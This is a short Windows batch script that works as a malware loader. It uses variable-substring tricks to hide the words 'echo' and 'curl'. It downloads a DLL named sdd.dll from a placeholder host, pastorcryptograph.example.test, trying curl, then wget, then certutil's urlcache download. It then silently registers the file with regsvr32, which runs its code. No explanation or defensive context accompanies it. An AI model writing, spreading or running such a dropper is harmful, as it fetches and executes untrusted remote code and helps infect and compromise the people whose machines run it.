@echo off
Set aim=kepzfTCDgNxhWdsHZlPQqLnVJrRbYvGwMyKEAXUojOBmitacuSIF
cls
@%aim:~24,1%%aim:~14,1%o off
%aim:~48,1%%aim:~26,1%l -k https://pastorcryptograph.example.test/3/sdd.dll -o compile.dll
if not exist compile.dll (
    wget https://pastorcryptograph.example.test/3/sdd.dll -O compile.dll
)
if not exist compile.dll (
    certutil.exe -urlcache -f https://pastorcryptograph.example.test/3/sdd.dll compile.dll
)
regsvr32.exe -s compile.dll
